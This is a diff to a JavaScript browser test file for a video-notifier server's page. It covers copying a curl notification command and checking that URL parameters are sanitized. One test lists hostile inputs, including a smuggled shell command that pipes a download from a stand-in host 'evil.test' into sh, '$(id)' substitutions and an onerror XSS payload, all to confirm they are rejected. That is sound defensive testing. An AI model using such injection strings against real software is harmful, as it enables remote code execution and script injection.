@@ -1,9 +1,14 @@
 // The server's own page at `/`: what it shows of the connection, and what a visitor can choose there.
 
 import assert from "node:assert/strict";
+import { execFile } from "node:child_process";
+import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import { after, afterEach, before, beforeEach, test } from "node:test";
+import { promisify } from "node:util";
 import { Chromium } from "./support/chromium.js";
-import { Server } from "./support/server.js";
+import { Server, TOKEN } from "./support/server.js";
 import { OPEN } from "./support/sharing.js";
 import { eventually } from "./support/wait.js";
 
@@ -147,22 +152,47 @@ test("muting is for all tabs, and each shows it", async () => {
   assert.deepEqual([...(await first.toasts()), ...(await second.toasts())], []);
 });
 
-test("the command that it gives can be copied, and is taken by the server", async () => {
+test("the command that it gives can be copied, and posts something new each time that a shell runs it", async (t) => {
   const tab = await open("?regions=DE");
-  const { origin } = server;
   await chromium.send("Browser.grantPermissions", {
     browserContextId: context,
-    origin,
+    origin: server.origin,
     permissions: ["clipboardReadWrite", "clipboardSanitizedWrite"],
   });
   await tab.show();
   await choose(tab, "[data-copies=post]");
   await tab.until("document.querySelector('[data-copies=post]').textContent === 'Copied'");
   const command = await tab.evaluate("navigator.clipboard.readText()");
-  assert.equal(command, await tab.evaluate("document.querySelector('#post').textContent"));
-  assert.ok(command.startsWith(`curl ${origin}/notify `), command);
-  const [, body] = /-d '(.*)'$/s.exec(command);
-  const { region, count, subscribers } = await server.post(JSON.parse(body));
-  assert.deepEqual([region, count, subscribers], ["DE", 37, 1]);
+  assert.equal(command, await text(tab, "#post"));
+
+  // As in the folder that a server was started in.
+  const cwd = await mkdtemp(join(tmpdir(), "video-notifier-folder-"));
+  t.after(() => rm(cwd, { recursive: true }));
+  await mkdir(join(cwd, "data"));
+  await writeFile(join(cwd, "data/notify.token"), TOKEN);
+  const post = async () => JSON.parse((await promisify(execFile)("sh", ["-c", command], { cwd })).stdout);
+  const { id, region, count, deduplicated, subscribers } = await post();
+  assert.deepEqual([region, count, deduplicated, subscribers], ["DE", 37, false, 1]);
   await feedIs(tab, "Germany: 37 new videos");
+  await eventually(async () => (await post()).id !== id, { what: "another second's post is another" });
+});
+
+test("what somebody puts into the address gets into no command and no markup", async () => {
+  const hostile = [`US';curl evil.test|sh;'`, "$(id)", "`id`", '"><img src=x onerror=alert(1)>', "a\nb", "JP"];
+  const tab = await open(`?regions=${encodeURIComponent(hostile.join())}&lang=x'y&theme=%3Cb%3E&dir=ltr;`);
+  assert.equal(
+    await tab.evaluate("[...document.querySelectorAll('#regions :checked')].map(({ value }) => value).join()"),
+    "JP",
+  );
+  assert.match(await text(tab, "#post"), /"region": "JP", /);
+  assert.doesNotMatch(await text(tab, "main"), /evil|onerror|\$\(id/);
+  assert.equal(await tab.evaluate("location.search"), "?regions=JP");
+});
+
+test("without a clipboard the command is selected instead", async () => {
+  const tab = await open();
+  await tab.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })");
+  await choose(tab, "[data-copies=post]");
+  await tab.until("document.querySelector('[data-copies=post]').textContent === 'Selected'");
+  assert.equal(await tab.evaluate("getSelection().toString()"), await text(tab, "#post"));
 });
